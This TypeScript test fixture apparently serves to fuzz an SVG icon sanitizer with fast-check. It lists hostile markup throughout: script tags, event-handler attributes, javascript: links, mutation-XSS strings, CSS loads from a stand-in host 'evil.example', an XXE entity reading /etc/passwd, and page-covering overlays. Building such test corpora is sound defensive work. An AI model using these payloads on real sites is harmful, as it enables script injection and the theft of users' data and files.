import * as fc from 'fast-check';

const payload = 'globalThis.intruder=1';
const evilOrigin = 'https://evil.example';
const path = '<path d="M3 7h18v10H3z"/>';
const svg = (inside: string, attributes = 'viewBox="0 0 24 24"'): string => `<svg ${attributes}>${inside}</svg>`;

/** Script elements in every notation. */
const scripts = [
  `<script>${payload}</script>`,
  svg(`<script>${payload}</script>${path}`),
  svg(`<script href="${evilOrigin}/x.js"/>${path}`),
  svg(`<script xlink:href="data:text/javascript,${payload}"/>${path}`),
  svg(`<SCRIPT>${payload}</SCRIPT>${path}`),
  svg(`<svg:script xmlns:svg="http://www.w3.org/2000/svg">${payload}</svg:script>${path}`),
  svg(`<x:script xmlns:x="http://www.w3.org/1999/xhtml">${payload}</x:script>${path}`),
  svg(`<scr<script>ipt>${payload}</scr</script>ipt>${path}`),
  svg(`<g><script type="module">${payload}</script></g>${path}`),
  `${svg(path)}<script>${payload}</script>`,
  `<script>${payload}</script>${svg(path)}`,
  svg(`<handler xmlns="http://www.w3.org/2001/xml-events" type="application/ecmascript">${payload}</handler>${path}`),
];

const handlerNames =
  'onload onerror onclick onbegin onend onrepeat onfocus onfocusin onmouseover onpointerenter onanimationstart';

/** Event handler attributes on the SVG and on its shapes. */
const handlers = handlerNames
  .split(' ')
  .flatMap((name) => [
    svg(path, `viewBox="0 0 24 24" ${name}="${payload}"`),
    svg(`<path ${name}=${payload} d="M3 7h18v10H3z" tabindex="0" autofocus/>`),
  ])
  .concat([
    `<svg/onload=${payload}>${path}</svg>`,
    `<svg\nonload\n=\n"${payload}"\n>${path}</svg>`,
    `<svg onload\u0000="${payload}">${path}</svg>`,
    `<svg oNlOaD="${payload}">${path}</svg>`,
    `<svg x:onload="${payload}">${path}</svg>`,
    `<svg viewBox="0 0 24 24"onload=${payload}>${path}</svg>`,
    `<svg viewBox='" onload="${payload}'>${path}</svg>`,
    svg(`<path d='"/><img src=x onerror=${payload}>'/>`),
  ]);

/** Foreign content, external resources and links inside the SVG. */
// prettier-ignore
const foreignContent = [
  `<foreignObject width="999" height="999"><body xmlns="http://www.w3.org/1999/xhtml" onload="${payload}"></body></foreignObject>`,
  `<foreignobject><iframe srcdoc="&lt;script&gt;parent.intruder=1&lt;/script&gt;"></iframe></foreignobject>`,
  `<foreignObject><img src=x onerror=${payload}></foreignObject>`,
  `<foreignObject><form action="${evilOrigin}"><input autofocus onfocus=${payload}></form></foreignObject>`,
  `<desc><img src=x onerror=${payload}></desc>`, `<title><img src=x onerror=${payload}></title>`,
  `<metadata><iframe src="${evilOrigin}"></iframe></metadata>`,
  `<annotation-xml encoding="text/html"><img src=x onerror=${payload}></annotation-xml>`, `<use href="${evilOrigin}/a.svg#b"/>`,
  `<use xlink:href="data:image/svg+xml,%3Csvg id='x' xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='1' onerror='${payload}'/%3E%3C/svg%3E#x"/>`,
  `<use href="#main"/>`, `<image href="${evilOrigin}/a.png" width="9" height="9"/>`,
  `<image xlink:href="x" onerror="${payload}"/>`, `<feImage href="${evilOrigin}/a.png"/>`,
  `<a href="javascript:${payload}"><rect width="999" height="999"/></a>`, `<a xlink:href="javascript:${payload}">${path}</a>`,
  `<audio src="${evilOrigin}/a.mp3" onerror=${payload}></audio>`, `<video><source onerror="${payload}"></video>`,
  `<embed src="${evilOrigin}/x.swf">`, `<object data="data:text/html,<script>parent.intruder=1</script>"></object>`,
  `<iframe src="javascript:parent.intruder=1"></iframe>`,
  `<link xmlns="http://www.w3.org/1999/xhtml" rel="stylesheet" href="${evilOrigin}/x.css"/>`, `<base href="${evilOrigin}/"/>`,
  `<meta http-equiv="refresh" content="0;url=${evilOrigin}"/>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${payload}>`,
].map((inside) => svg(inside + path));

/** Animations that set forbidden attributes. */
const animations = [
  `<animate attributeName="href" values="javascript:${payload}"/>`,
  `<set attributeName="onmouseover" to="${payload}"/>`,
  `<set attributeName="href" to="javascript:${payload}"/>`,
  `<animate onbegin="${payload}" attributeName="x" dur="1s"/>`,
  `<animate onend="${payload}" attributeName="x" dur="0.01s" fill="freeze"/>`,
  `<animateTransform attributeName="transform" type="scale" to="999" fill="freeze" dur="0.01s"/>`,
  `<animateMotion path="M0 0L999 999" dur="0.01s" fill="freeze"/>`,
  `<animateColor attributeName="fill" to="url(${evilOrigin}/c)"/>`,
  `<discard begin="0s"/>`,
  `<mpath href="${evilOrigin}/p.svg#p"/>`,
].map((inside) => svg(`<g>${inside}${path}</g>`));

/** Paints, filters, masks and clips that load from another host, or are not plain colours. */
const paints = [
  ...['fill', 'stroke', 'filter', 'mask', 'clip-path', 'marker', 'marker-start', 'cursor', 'mask-image'].flatMap(
    (name) => [
      `<path d="M0 0h9v9z" ${name}="url(${evilOrigin}/${name})"/>`,
      `<path d="M0 0h9v9z" ${name}="URL(&quot;${evilOrigin}/${name}&quot;)"/>`,
    ],
  ),
  `<path d="M0 0h9v9z" fill="u\\72l(${evilOrigin}/escaped)"/>`,
  `<path d="M0 0h9v9z" fill="red url(${evilOrigin}/second)"/>`,
  `<path d="M0 0h9v9z" fill="url(${evilOrigin}/fallback) red"/>`,
  `<path d="M0 0h9v9z" fill="/**/url(${evilOrigin}/comment)"/>`,
  `<path d="M0 0h9v9z" fill="&#117;&#114;&#108;(${evilOrigin}/coded)"/>`,
  `<path d="M0 0h9v9z" stroke="image-set('${evilOrigin}/set' 1x)"/>`,
  `<path d="M0 0h9v9z" fill="var(--x, url(${evilOrigin}/var))"/>`,
  `<path d="M0 0h9v9z" fill="expression(${payload})"/>`,
  `<path d="M0 0h9v9z" FILL="url(${evilOrigin}/upper)"/>`,
  `<linearGradient id="g" href="${evilOrigin}/g.svg#g"/><path d="M0 0h9v9z" fill="url(#g)"/>`,
  `<pattern id="p"><image href="${evilOrigin}/p.png"/></pattern><path d="M0 0h9v9z" fill="url(#p)"/>`,
  `<style>@import url(${evilOrigin}/i.css);path{fill:url(${evilOrigin}/s)}</style>${path}`,
  `<style><![CDATA[*{background:url(${evilOrigin}/cdata)}]]></style>${path}`,
  `<style>@font-face{font-family:x;src:url(${evilOrigin}/f.woff)}*{font-family:x}</style>${path}`,
].map((inside) => svg(inside));

/** Icons that would cover or move the page, or clash with its ids and classes. */
const overlays = [
  svg(path, 'viewBox="0 0 24 24" class="fixed inset-0 z-50"'),
  svg(path, 'viewBox="0 0 24 24" style="position:fixed;inset:0;width:100vw;height:100vh;z-index:2147483647"'),
  svg(path, 'width="99999" height="99999" x="-999" y="-999" viewBox="0 0 1 1"'),
  svg(path, 'viewBox="0 0 24 24" id="main"'),
  svg(path, 'viewBox="0 0 24 24" popover="manual"'),
  svg(path, 'viewBox="0 0 24 24" overflow="visible" transform="scale(999)"'),
  svg('<rect x="-9999" y="-9999" width="99999" height="99999" fill="#f00"/>'),
  svg('<circle r="99999"/>'),
  svg('<g transform="translate(-500 -500) scale(9999)"><path d="M0 0h1v1z"/></g>'),
  svg('<path d="M-9999-9999h99999v99999z" stroke="#f00" stroke-width="99999"/>'),
  svg(`<path d="M0 0h9" class="dialog backdrop" data-branch="1" data-buy/>`),
  svg(`<path d="M0 0h9" id="categories" name="forms" is="x" slot="y" part="z" tabindex="1"/>`),
  svg(`<svg width="9999" height="9999" style="position:fixed">${path}</svg>${path}`),
  '<i class="fixed inset-0 z-50 fa fa-mobile"></i>',
  '<i class="fa fa-mobile" style="position:fixed;inset:0"></i>',
  '<span class="dialog open overlay" hidden>x</span>',
  '<i class="fa fa-mobile\u0000 fixed"></i>',
  '<div class="fixed inset-0 z-50" style="position:fixed;inset:0">x</div>',
  '<dialog open style="position:fixed;inset:0">x</dialog>',
  '<center><h1>Oferta</h1></center>',
];

/** Mutation XSS: markup that changes its meaning when it is parsed again. */
// prettier-ignore
const mutationXss = [
  `<svg></p><style><a id="</style><img src=1 onerror=${payload}>">`,
  `<svg><p><style><img src="</style><img src=x onerror=${payload}//">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${payload}&gt;">`,
  `<svg><desc><noscript><img title="</noscript><img src=x onerror=${payload}>"></desc>${path}</svg>`,
  `<svg><![CDATA[><img src=x onerror=${payload}>]]>${path}</svg>`, `<svg><!--><img src=x onerror=${payload}>-->${path}</svg>`,
  `<svg><!-- --!><img src=x onerror=${payload}> -->${path}</svg>`,
  `<svg><?xml-stylesheet href="${evilOrigin}/x.xsl"?>${path}</svg>`,
  `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;${path}</svg>`,
  `<!DOCTYPE svg [<!ENTITY a "&b;&b;"><!ENTITY b "lol">]><svg>&a;${path}</svg>`,
  `<svg>&lt;script&gt;${payload}&lt;/script&gt;${path}</svg>`, `<svg>&#x3c;img src=x onerror=${payload}&#x3e;${path}</svg>`,
  `<svg><path d="M0 0h9" fill="&quot;&gt;&lt;img src=x onerror=${payload}&gt;"/></svg>`,
  `<svg><path d="M0 0h9&quot; onload=&quot;${payload}"/></svg>`, `<svg><path d=M0 onload=${payload} 0h9></svg>`,
  `<svg xmlns:a="http://www.w3.org/1999/xhtml"><a:img src="x" onerror="${payload}"/>${path}</svg>`,
  `<xss:svg xmlns:xss="http://www.w3.org/2000/svg"><xss:path d="M0 0"/></xss:svg>`,
  `<svg><xmp><path d="M0 0"/></xmp><img src=x onerror=${payload}>${path}</svg>`, `<svg><plaintext>${path}</svg>`,
  `<svg><template><img src=x onerror=${payload}></template>${path}</svg>`,
  `<svg><select><template><style><!--</style><a rel="--></style></template></select><img src onerror=${payload}>">${path}</svg>`,
  `<svg><g><g><g><path d="M0 0"`, `<svg viewBox="0 0 24 24"><path d="M0 0h9"><`,
  `<svg\u000conload=${payload}>${path}</svg>`, `\ufeff<svg viewBox="0 0 24 24">${path}</svg>`,
  `<svg viewBox="0 0 24 24">${path.repeat(400)}</svg>`,
  `<svg viewBox="0 0 24 24">${'<g>'.repeat(500)}${path}${'</g>'.repeat(500)}</svg>`,
  `<svg viewBox="${'9'.repeat(5000)}">${path}</svg>`, '\ud83d<svg\ud83d>', '\u0000', 'Fundas & micas <3',
];

/** Category icons that attack the page. */
export const maliciousIcons: readonly string[] = [
  ...scripts,
  ...handlers,
  ...foreignContent,
  ...animations,
  ...paints,
  ...overlays,
  ...mutationXss,
];

const fragments = [
  ...maliciousIcons.flatMap((icon) => icon.match(/<[^<>]*>|[^<>]+/g) ?? []).filter((fragment) => fragment.length < 200),
  // prettier-ignore
  ...['<', '>', '"', "'", '=', '/', '&', ';', '<!--', '-->', '<![CDATA[', ']]>', '\u0000', '\n', '<svg>', '</svg>', path],
];

/** Any icon made of fragments of these. */
export const anyIcon: fc.Arbitrary<string> = fc
  .array(fc.constantFrom(...new Set(fragments)), { minLength: 1, maxLength: 14 })
  .chain((pieces) => fc.constantFrom(pieces.join(''), svg(pieces.join('')), svg(pieces.join('') + path)));
